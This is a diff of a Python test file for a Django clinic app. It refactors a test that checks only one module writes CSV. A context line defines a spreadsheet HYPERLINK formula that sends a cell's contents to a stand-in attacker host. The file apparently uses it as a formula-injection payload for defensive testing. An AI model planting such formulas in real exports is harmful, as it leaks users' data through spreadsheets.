@@ -18,7 +18,7 @@ from django.utils import timezone
 from assessments import services as assessment_services
 from clinic.csv_writer import csv_bytes, csv_cell
 from exercises import services as exercise_services
-from tests.conftest import ROOT
+from tests.conftest import ROOT, project_sources
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Open my video")'
 PAYLOADS = [
@@ -67,12 +67,12 @@ def test_a_file_reads_back_in_pandas_with_numbers_as_numbers_and_phones_as_phone
 def test_no_module_writes_csv_but_the_one_writer():
     """The class of fault goes away only if nothing else can write a cell unchecked."""
     allowed = ROOT / "clinic" / "csv_writer.py"
-    offenders = []
-    for folder in ("clinic", "assessments", "exercises", "audit"):
-        for path in Path(ROOT / folder).rglob("*.py"):
-            text = path.read_text()
-            if path != allowed and re.search(r"^\s*(import csv|from csv import)", text, re.M):
-                offenders.append(str(path.relative_to(ROOT)))
+    offenders = [
+        str(path.relative_to(ROOT))
+        for path in project_sources()
+        if path != allowed
+        and re.search(r"^\s*(import csv|from csv import)", path.read_text(), re.M)
+    ]
     assert offenders == []
 
 
